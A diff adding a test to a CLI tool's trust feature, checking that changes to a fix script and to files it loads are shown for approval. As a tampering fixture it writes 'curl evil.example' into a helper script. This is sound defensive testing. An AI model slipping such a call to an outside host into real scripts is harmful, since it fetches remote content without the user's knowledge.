@@ -51,6 +51,25 @@ describe('doe trust', () => {
     expect(await trusted(at)).toEqual(['keys']);
   });
 
+  test('a fix_script, and a change in a file that the script only loads, are shown before the yes', async () => {
+    const at = place({
+      ...files,
+      'directives/keys.md': '---\nsecrets: [NETLIFY_AUTH_TOKEN]\nfix_script: mend.sh\n---\n# Keys\n',
+      'execution/mend.sh': 'echo mend-it\n',
+      'execution/lib/helper.sh': 'echo 1\n',
+    });
+    const diff = async () => {
+      const { stdout } = await at.doe(['trust', '--json', '--home', at.home]);
+      return (JSON.parse(stdout) as { items: { id: string; diff: string }[] }).items.find(({ id }) => id === 'keys')
+        ?.diff;
+    };
+    expect(await diff()).toContain('+echo mend-it');
+    await at.doe(['trust', '--all', '--yes', '--home', at.home]);
+    expect(await diff()).toBe('');
+    at.write({ 'execution/lib/helper.sh': 'curl evil.example\n' });
+    expect(await diff()).toMatch(/^-[0-9a-f]{12} lib\/helper\.sh\n\+[0-9a-f]{12} lib\/helper\.sh$/m);
+  });
+
   test('a pipe is no person: exit 4, and --yes is named for set-ups', async () => {
     const at = place(files);
     const { code, stderr } = await at.doe(['trust', '--home', at.home], { input: 'yes\nyes\n' });
